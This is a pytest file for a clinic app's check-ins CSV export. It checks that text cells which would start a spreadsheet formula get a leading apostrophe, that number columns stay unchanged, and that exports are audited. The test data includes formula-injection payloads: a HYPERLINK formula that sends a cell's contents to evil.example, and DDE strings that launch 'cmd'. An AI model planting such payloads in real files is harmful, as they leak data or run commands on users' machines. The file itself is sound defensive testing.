"""CSV formula injection (issue 14, finding 5): by default the check-ins export defuses every text
cell a spreadsheet would run as a formula (OWASP: a leading "'" before "=", "+", "-", "@", tab and
CR), leaves number columns alone, and keeps the exact text on request (the page's choice, ?raw=1
on the API). The audit row says which form went out."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import select

from companion.checkins.store import CheckInDetails, submit_checkin
from companion.exports.checkins_csv import COLUMNS, NUMERIC_COLUMNS, defuse, defused_row
from companion.extensions import db
from companion.models import AuditEvent
from tests.conftest import sign_in

VISIT_AT = datetime(2026, 11, 10, 9, 0, tzinfo=UTC)

# What a patient (the note) or a therapist (name, reference) may type, and what the safe form holds.
DANGEROUS = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1,1)": "'@SUM(1,1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
HARMLESS = ["plain", "a=b", "pain 3-4", "mail@example.org", " =1 (space first)", ""]


def parse(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


@pytest.fixture
def notes_clinic(make_clinic, make_visit):
    """One patient whose name and reference start a formula, one check-in per note."""
    clinic = make_clinic(timezone="Europe/Madrid")
    visit = make_visit(
        clinic, name="=cmd|'/C calc'!A0", ref="+P-1", performed_at=VISIT_AT, now=VISIT_AT
    ).visit
    for i, note in enumerate([*DANGEROUS, *HARMLESS]):
        at = VISIT_AT + timedelta(hours=2 + i)
        details = CheckInDetails(uuid.uuid4(), at, i % 11, None, [], [], note or None)
        submit_checkin(visit, details, now=at)
        db.session.commit()
    return clinic


def api_csv(client, key, extra=""):
    return client.get(
        f"/api/v1/checkins.csv?from=2026-11-10&to=2026-11-11{extra}",
        headers={"Authorization": f"Bearer {key}"},
    )


@pytest.mark.parametrize(("cell", "safe"), [*DANGEROUS.items(), *((h, h) for h in HARMLESS)])
def test_a_cell_that_would_start_a_formula_gets_a_leading_apostrophe(cell, safe):
    assert defuse(cell) == safe


def test_the_default_export_defuses_notes_names_and_references(client, make_api_key, notes_clinic):
    rows = parse(api_csv(client, make_api_key(notes_clinic)))

    assert [r["note"] for r in rows] == [*DANGEROUS.values(), *HARMLESS]
    assert {r["patient_name"] for r in rows} == {"'=cmd|'/C calc'!A0"}
    assert {r["patient_ref"] for r in rows} == {"'+P-1"}
    # No cell of a text column starts a formula.
    for row in rows:
        for column in ("note", "patient_name", "patient_ref", "patient_timezone", "triage"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_number_columns_are_never_changed():
    """A real number stays a number, even a negative one: only text cells are defused."""
    row = {name: "-1" for name in COLUMNS}

    safe = dict(zip(COLUMNS, defused_row(list(row.values())), strict=True))

    assert {name for name, cell in safe.items() if cell == "-1"} == NUMERIC_COLUMNS
    assert {name for name, cell in safe.items() if cell == "'-1"} == set(COLUMNS) - NUMERIC_COLUMNS
    assert {
        "checkin_id",
        "visit_id",
        "hours_since_visit",
        "soreness",
        "usual_pain",
        "pgic",
    } == NUMERIC_COLUMNS


def test_raw_1_on_the_api_keeps_the_exact_text_and_the_audit_says_so(
    client, make_api_key, notes_clinic
):
    key = make_api_key(notes_clinic)

    rows = parse(api_csv(client, key, "&raw=1"))
    api_csv(client, key, "&raw=0")

    assert [r["note"] for r in rows] == [*DANGEROUS, *HARMLESS]
    assert {r["patient_name"] for r in rows} == {"=cmd|'/C calc'!A0"}
    forms = db.session.scalars(
        select(AuditEvent.detail).where(AuditEvent.action == "export.csv").order_by(AuditEvent.at)
    ).all()
    assert [f["form"] for f in forms] == ["exact", "safe"]


@pytest.mark.parametrize("raw", ["2", "true", "yes", ""])
def test_any_other_raw_value_is_refused_and_nothing_is_exported(
    client, make_api_key, notes_clinic, raw
):
    response = api_csv(client, make_api_key(notes_clinic), f"&raw={raw}")

    assert response.status_code == 422
    assert response.get_json()["error"]["field"] == "raw"
    assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "export.csv")) is None


def test_the_exports_page_offers_both_forms_and_defaults_to_the_safe_one(
    client, make_therapist, notes_clinic
):
    sign_in(client, make_therapist(notes_clinic).email)

    page = client.get("/exports").get_data(as_text=True)
    safe = parse(client.get("/exports/checkins.csv?from=2026-11-10&to=2026-11-11&raw=0"))
    exact = parse(client.get("/exports/checkins.csv?from=2026-11-10&to=2026-11-11&raw=1"))
    refused = client.get("/exports/checkins.csv?from=2026-11-10&to=2026-11-11&raw=x")

    assert 'name="raw" value="0" checked' in page and 'name="raw" value="1"' in page
    assert "can run as a formula" in page
    assert [r["note"] for r in safe] == [*DANGEROUS.values(), *HARMLESS]
    assert [r["note"] for r in exact] == [*DANGEROUS, *HARMLESS]
    assert refused.status_code == 422
    assert "Choose how to export the text." in refused.get_data(as_text=True)


def test_the_audit_page_names_the_form(client, make_therapist, notes_clinic):
    sign_in(client, make_therapist(notes_clinic).email)
    client.get("/exports/checkins.csv?from=2026-11-10&to=2026-11-11&raw=1")

    page = client.get("/audit").get_data(as_text=True)

    assert "exact text" in page
